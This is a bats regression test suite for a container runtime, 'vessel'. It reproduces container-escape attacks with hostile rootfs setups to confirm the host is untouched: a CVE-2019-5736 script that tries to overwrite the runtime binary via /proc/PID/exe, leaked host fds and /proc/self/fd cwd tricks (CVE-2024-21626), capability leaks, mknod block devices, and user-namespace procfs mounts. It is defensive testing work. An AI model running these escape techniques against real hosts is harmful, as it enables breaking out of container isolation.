#!/usr/bin/env bats
# Known attacks on the host through the runtime, each reproduced with a
# hostile rootfs or config that the test builds itself: the host must be
# untouched, and vessel must refuse or the attack come to nothing.
#
#  - CVE-2019-5736: overwriting the runtime's binary through
#    /proc/<pid>/exe when the container gets to run vessel's image
#    (a program that is "#!/proc/self/exe") or sees vessel's init.
#  - CVE-2024-21626: host fds in the container, a cwd through
#    /proc/self/fd/N.
#  - CVE-2022-29162 / CVE-2022-27650: inheritable capabilities nobody
#    asked for.
#  - Block devices the container makes with mknod.
#  - --no-pivot: the host's procfs and sysfs, hidden under the rootfs but
#    still in the container's mount namespace, let a process that makes
#    a user namespace mount fresh ones around maskedPaths.
#
# Every test runs a private copy of the build's vessel, so an attack that
# works damages the copy (and fails the test), never the build.

load helpers

setup() {
  require_root
  common_setup
  cp "$VESSEL" "$BATS_TEST_TMPDIR/vessel"
  VESSEL=$BATS_TEST_TMPDIR/vessel
  VESSEL_SUM=$(sha256sum < "$VESSEL")
}

teardown() {
  [ -z "${BG_PID:-}" ] || kill "$BG_PID" 2>/dev/null || true
  common_teardown
}

# The copy of vessel the test ran is byte for byte what it was.
assert_vessel_intact() {
  [ "$(sha256sum < "$VESSEL")" = "$VESSEL_SUM" ] || fail_with "the vessel binary was modified"
}

# --- CVE-2019-5736: vessel's binary --------------------------------------

# hostile_rootfs: a writable rootfs for the attack.  /evil is a program
# whose interpreter is /proc/self/exe: exec'ing it runs whatever the
# exec'ing process runs, which is vessel's image when vessel execs it.
# Run as `/evil --log=/fifo list`, that vessel opens its log /fifo and
# stays blocked there until the attacker lets it go.  vessel's shared
# libraries are copied in so that its image can run in the container.
# /attack is the attacker (see its comments).
hostile_rootfs() {
  update_config '.root.readonly = false'
  local lib
  for lib in $(ldd "$VESSEL" | grep -o '/[^ ]*'); do
    mkdir -p "$BUNDLE/rootfs$(dirname "$lib")"
    cp -L "$lib" "$BUNDLE/rootfs$lib"
  done
  printf '#!/proc/self/exe --root\n' > "$BUNDLE/rootfs/evil"
  chmod 755 "$BUNDLE/rootfs/evil"
  mkfifo "$BUNDLE/rootfs/fifo"
  cat > "$BUNDLE/rootfs/attack" <<'EOF'
#!/bin/sh
# attack [PIDFILE]: the target is the process PIDFILE names once it
# exists, else the first one not running busybox.  Reports to /report.
log() { echo "$*" >> /report; }
T=
if [ -n "$1" ]; then
  # The target is an init that vessel has created and not started: it
  # is vessel's binary still, and must be out of reach.
  while [ ! -s "$1" ]; do sleep 0.05; done
  T=$(cat "$1")
  readlink /proc/$T/exe > /dev/null 2>&1 && log "created: exe readable" || log "created: exe unreadable"
  # (A redirection that fails makes `exec` end the shell: try it first.)
  if (exec 5< /proc/$T/exe) 2>/dev/null; then exec 5< /proc/$T/exe; HELD=1; log "created: opened"; else log "created: open refused"; fi
  if { echo x >> /proc/$T/exe; } 2>/dev/null; then log "created: written"; else log "created: write refused"; fi
  touch /created.done
fi
# Wait until the target runs vessel's image (through /evil).
while :; do
  for p in ${T:-/proc/[0-9]*}; do
    p=/proc/${p#/proc/}
    case "$(readlink $p/exe 2>/dev/null)" in
      "" | */busybox) ;;
      *) T=${p#/proc/}; break 2 ;;
    esac
  done
  sleep 0.05
done
log "exe $(readlink /proc/$T/exe) $(stat -L -c %d:%i /proc/$T/exe)"
if { echo x >> /proc/$T/exe; } 2>/dev/null; then log "running: written"; else log "running: write refused"; fi
(exec 3< /proc/$T/exe) 2>> /report && exec 3< /proc/$T/exe
# Let it go on (it opens its log for writing: the fifo as it sees it)...
exec 4< /proc/$T/root/fifo
# ...wait until it is gone: its binary is no longer busy...
while readlink /proc/$T/exe > /dev/null 2>&1; do sleep 0.05; done
# ...and write to it through the fd kept (the 2019 exploit).
if { echo pwned >> /proc/self/fd/3; } 2>> /report; then log "exited: written"; else log "exited: write refused"; fi
# And through the file kept from `created`, if the attacker got one.
if [ -n "${HELD:-}" ] && { echo pwned >> /proc/self/fd/5; } 2>> /report; then log "created: written after start"; fi
log done
sleep 1000
EOF
  chmod 755 "$BUNDLE/rootfs/attack"
}

# The pid of host process PID in its innermost pid namespace.
inner_pid() {
  awk '$1 == "NSpid:" { print $NF }' "/proc/$1/status"
}

@test "CVE-2019-5736: a container running vessel's image through #!/proc/self/exe in exec cannot overwrite vessel" {
  new_container c1
  hostile_rootfs
  set_args /attack
  vessel run --detach --bundle "$BUNDLE" c1 > /dev/null 2>&1 < /dev/null
  # The container's program is #!/proc/self/exe: vessel's image in the
  # container, stopped at its log until the attacker has its binary.
  run timeout 20 "$VESSEL" --root "$VESSEL_TEST_ROOT" exec c1 /evil --log=/fifo list
  wait_until grep -q done "$BUNDLE/rootfs/report"
  cat "$BUNDLE/rootfs/report"
  assert_vessel_intact
  # It did run vessel's own file (the attack was real), through the
  # read-only mount vessel runs from (a detached one: its path is /).
  grep -qx "exe / $(stat -c %d:%i "$VESSEL")" "$BUNDLE/rootfs/report"
  grep -qx 'running: write refused' "$BUNDLE/rootfs/report"
  grep -qx 'exited: write refused' "$BUNDLE/rootfs/report"
  # Refused by the read-only mount, or while a vessel still runs the file
  # (the host's `exec` may outlive the process it started by a moment).
  grep -Eq 'Read-only file system|Text file busy' "$BUNDLE/rootfs/report"
  vessel delete --force c1
  assert_clean c1
}

@test "CVE-2019-5736: a process sharing the pid namespace cannot reach vessel's binary through a container being created or started" {
  # c1, the attacker, sees the processes of c2, which joins its pid
  # namespace, from `create` on.
  new_container c1
  hostile_rootfs
  set_args /attack /target
  vessel run --detach --bundle "$BUNDLE" c1 > /dev/null 2>&1 < /dev/null
  local attacker=$BUNDLE
  make_bundle "$BATS_TEST_TMPDIR/bundle2"
  use_cgroup c2
  hostile_rootfs
  update_config '(.linux.namespaces[] | select(.type == "pid")) += {path: $p}' --arg p "/proc/$(init_pid c1)/ns/pid"
  set_args /evil --log=/fifo list
  vessel create --bundle "$BUNDLE" c2 > /dev/null 2>&1 < /dev/null
  inner_pid "$(init_pid c2)" > "$attacker/rootfs/target"
  wait_until test -e "$attacker/rootfs/created.done"
  vessel start c2
  wait_until grep -q done "$attacker/rootfs/report"
  cat "$attacker/rootfs/report"
  assert_vessel_intact
  grep -qx 'created: exe unreadable' "$attacker/rootfs/report"
  grep -qx 'created: open refused' "$attacker/rootfs/report"
  grep -qx 'created: write refused' "$attacker/rootfs/report"
  if grep -q written "$attacker/rootfs/report"; then fail_with "written"; fi
  # Started, c2 ran vessel's image from the read-only mount.
  grep -qx "exe / $(stat -c %d:%i "$VESSEL")" "$attacker/rootfs/report"
  grep -qx 'exited: write refused' "$attacker/rootfs/report"
  vessel delete --force c2
  vessel delete --force c1
  assert_clean c1
  assert_clean c2
}

@test "CVE-2019-5736: a container's init that is #!/proc/self/exe cannot overwrite vessel" {
  # What `start` execs is vessel's image; pid 1, so its binary stays
  # busy as long as anything in the container lives.
  new_container c1
  hostile_rootfs
  update_config '.process.args = ["/evil", "--log=/fifo", "list"]'
  vessel run --detach --bundle "$BUNDLE" c1 > /dev/null 2>&1 < /dev/null
  local init
  init=$(init_pid c1)
  [ "$(stat -L -c %d:%i "/proc/$init/exe")" = "$(stat -c %d:%i "$VESSEL")" ]
  run host_probe mount "/proc/$init/exe"
  [ "$output" = ro ]
  # Its own binary, seen from inside, cannot be written.
  run vessel exec c1 sh -c 'echo x >> /proc/1/exe'
  assert_failure
  [[ "$output" == *"Text file busy"* || "$output" == *"Read-only file system"* ]]
  assert_vessel_intact
  vessel delete --force c1
  assert_clean c1
}

# --- CVE-2024-21626: host fds and the working directory ------------------

# Fds the caller leaks to vessel: a file, the host's root, a host
# directory with a file only the host has.
leak_fds() {
  mkdir -p "$BATS_TEST_TMPDIR/hostdir"
  touch "$BATS_TEST_TMPDIR/hostdir/host-only-file"
}

@test "CVE-2024-21626: no host fd reaches the container, even the ones the caller leaks to vessel" {
  leak_fds
  new_container c1
  set_args probe fds
  exec 7< /etc/hostname 8< / 9< "$BATS_TEST_TMPDIR/hostdir"
  run vessel run --bundle "$BUNDLE" c1
  exec 7<&- 8<&- 9<&-
  assert_success
  [ "$output" = "fds 0 1 2" ]
  set_args sleep 1000
  vessel run --detach --bundle "$BUNDLE" c1 > /dev/null 2>&1 < /dev/null
  exec 7< /etc/hostname 8< / 9< "$BATS_TEST_TMPDIR/hostdir"
  run vessel exec c1 probe fds
  exec 7<&- 8<&- 9<&-
  assert_success
  [ "$output" = "fds 0 1 2" ]
  # Nor anything the init or the exec'd process held: only the
  # process's own in /proc/1/fd.
  run vessel exec c1 ls /proc/1/fd
  [ "$(echo $output)" = "0 1 2" ]
  vessel delete --force c1
  assert_clean c1
}

# cwd_is_inside OUTPUT: `vessel run/exec ... sh -c 'probe cwd; ls'` either
# was refused, or ran in a directory of the container.
cwd_is_inside() {
  if [ "$status" -ne 0 ]; then
    [[ "$output" == *"outside the container"* || "$output" == *"chdir"* ]] || fail_with "$N: unclear refusal: $output"
  else
    [[ "$(probe_value cwd)" == /* ]] || fail_with "$N: cwd outside: $output"
    [[ "$(probe_value cwd)" != *unreachable* ]] || fail_with "$N: cwd outside: $output"
  fi
  [[ "$output" != *host-only-file* ]] || fail_with "$N: the process reached a host directory: $output"
}

@test "CVE-2024-21626: a process.cwd of /proc/self/fd/N is refused or inside the container, never a host directory" {
  leak_fds
  new_container c1
  set_args sh -c 'probe cwd; ls'
  local N refused=0
  exec 7< "$BATS_TEST_TMPDIR/hostdir" 8< "$BATS_TEST_TMPDIR/hostdir" 9< /
  for N in 3 4 5 6 7 8 9 10 11 12 15 20; do
    update_config '.process.cwd = $c' --arg c "/proc/self/fd/$N"
    run vessel run --bundle "$BUNDLE" c1
    cwd_is_inside
    [ "$status" -eq 0 ] || refused=$((refused + 1))
    vessel delete --force c1 > /dev/null 2>&1 || true
    assert_clean c1
  done
  exec 7<&- 8<&- 9<&-
  # The leaked ones at least were there to try.
  [ "$refused" -gt 0 ]
}

@test "CVE-2024-21626: exec --cwd /proc/self/fd/N is refused or inside the container, never a host directory" {
  leak_fds
  new_container c1
  set_args sleep 1000
  vessel run --detach --bundle "$BUNDLE" c1 > /dev/null 2>&1 < /dev/null
  local N refused=0
  exec 7< "$BATS_TEST_TMPDIR/hostdir" 8< "$BATS_TEST_TMPDIR/hostdir" 9< /
  for N in 3 4 5 6 7 8 9 10 11 12 15 20; do
    run vessel exec --cwd "/proc/self/fd/$N" c1 sh -c 'probe cwd; ls'
    cwd_is_inside
    [ "$status" -eq 0 ] || refused=$((refused + 1))
  done
  exec 7<&- 8<&- 9<&-
  [ "$refused" -gt 0 ]
  vessel delete --force c1
  assert_clean c1
}

# --- CVE-2022-29162 / CVE-2022-27650: inheritable capabilities -----------

@test "CVE-2022-29162: inheritable and ambient capabilities are empty unless the config asks, in run and exec" {
  new_container c1
  set_args probe caps
  # Even for a caller that has inheritable capabilities itself.
  run setpriv --inh-caps +sys_admin,+net_admin "$VESSEL" --root "$VESSEL_TEST_ROOT" run --bundle "$BUNDLE" c1
  assert_success
  [ "$(probe_value CapInh)" = 0000000000000000 ]
  [ "$(probe_value CapAmb)" = 0000000000000000 ]
  set_args sleep 1000
  vessel run --detach --bundle "$BUNDLE" c1 > /dev/null 2>&1 < /dev/null
  run vessel exec c1 probe caps
  assert_success
  [ "$(probe_value CapInh)" = 0000000000000000 ]
  [ "$(probe_value CapAmb)" = 0000000000000000 ]
  # --cap adds to bounding, permitted and effective, not inheritable.
  run vessel exec --cap CAP_SYS_ADMIN c1 probe caps
  assert_success
  [ "$(probe_value CapInh)" = 0000000000000000 ]
  [ "$(probe_value CapAmb)" = 0000000000000000 ]
  (( 0x$(probe_value CapEff) & (1 << 21) ))
  vessel delete --force c1
  assert_clean c1
}

@test "CVE-2022-29162: a config that asks for inheritable capabilities gets exactly those" {
  new_container c1
  update_config '.process.capabilities.inheritable = ["CAP_KILL", "CAP_NET_BIND_SERVICE"]
    | .process.capabilities.ambient = []'
  set_args probe caps
  run vessel run --bundle "$BUNDLE" c1
  assert_success
  [ "$(probe_value CapInh)" = 0000000000000420 ]
  [ "$(probe_value CapAmb)" = 0000000000000000 ]
  set_args sleep 1000
  vessel run --detach --bundle "$BUNDLE" c1 > /dev/null 2>&1 < /dev/null
  run vessel exec --cap CAP_SYS_ADMIN c1 probe caps
  assert_success
  [ "$(probe_value CapInh)" = 0000000000000420 ]
  vessel delete --force c1
  assert_clean c1
}

# --- devices ---------------------------------------------------------------

# MAJ:MIN of a block device that this host's root can open (only ever
# opened read-only; this machine's own disk is closed even to root).
openable_block_device() {
  local d
  for d in /dev/loop0 /dev/loop1 /dev/ram0 /dev/vda /dev/sda; do
    [ -b "$d" ] && (exec 3< "$d") 2> /dev/null && stat -c '%Hr:%Lr' "$d" && return 0
  done
  return 0
}

@test "a container cannot open a block device node it makes with mknod, unless a device rule allows it" {
  local dev
  dev=$(openable_block_device)
  [ -n "$dev" ] || skip "no block device that root can open on this host"
  new_container c1
  update_config '.root.readonly = false
    | .process.capabilities |= with_entries(.value += ["CAP_MKNOD"])'
  # Read-only, and closed at once: nothing is read or written.
  set_args sh -c "mknod /dev/xdisk b ${dev%:*} ${dev#*:} || exit 3; exec 3< /dev/xdisk && echo opened"
  run vessel run --bundle "$BUNDLE" c1
  [[ "$output" != *opened* ]] || fail_with "opened $dev: $output"
  [[ "$output" == *"Operation not permitted"* ]] || fail_with "$output"
  # The same without any device rule in the config (vessel's defaults).
  rm -f "$BUNDLE/rootfs/dev/xdisk"
  update_config 'del(.linux.resources.devices)'
  run vessel run --bundle "$BUNDLE" c1
  [[ "$output" != *opened* ]] || fail_with "opened $dev: $output"
  [[ "$output" == *"Operation not permitted"* ]] || fail_with "$output"
  # A rule for exactly that device lets it open: the device cgroup, not
  # something else, is what refused it above.
  rm -f "$BUNDLE/rootfs/dev/xdisk"
  update_config '.linux.resources.devices = [{"allow": false, "access": "rwm"},
    {"allow": true, "type": "b", "major": $ma, "minor": $mi, "access": "r"}]' \
    --argjson ma "${dev%:*}" --argjson mi "${dev#*:}"
  run vessel run --bundle "$BUNDLE" c1
  [ "$output" = opened ] || fail_with "with an allow rule: $output"
  rm -f "$BUNDLE/rootfs/dev/xdisk"
  assert_clean c1
}

# --- --no-pivot: the host's mounts under the moved rootfs -------------------

# In a container run with --no-pivot, as a user that may make user
# namespaces: mounting a fresh procfs or sysfs there must fail (the kernel
# allows it only while a full one is in the mount namespace).  The tmpfs
# mount shows that the user namespaces themselves work.
no_pivot_fresh_mounts() {
  update_config '.process.user = {"uid": 1000, "gid": 1000}'
  set_args sh -c 'unshare -Urm sh -c "mount -t tmpfs t /tmp && echo tmpfs-mounted"
    unshare -Urmpf sh -c "mount -t proc proc /tmp && echo proc-mounted"
    unshare -Urmnpf sh -c "mount -t sysfs sysfs /tmp && echo sysfs-mounted"
    true'
  run vessel run --no-pivot --bundle "$BUNDLE" c1
  assert_success
  [ "${lines[0]}" = tmpfs-mounted ] || fail_with "no user namespace: $output"
  [[ "$output" != *proc-mounted* && "$output" != *sysfs-mounted* ]] || fail_with "$output"
  [[ "$output" == *"permission denied"* ]] || fail_with "$output"
  assert_clean c1
}

@test "--no-pivot: no fresh procfs or sysfs can be mounted from a new user namespace, the host's are gone" {
  new_container c1
  no_pivot_fresh_mounts
}

@test "--no-pivot with a user namespace: no fresh procfs or sysfs either, the host's are covered" {
  new_container c1
  use_user_namespace
  no_pivot_fresh_mounts
}
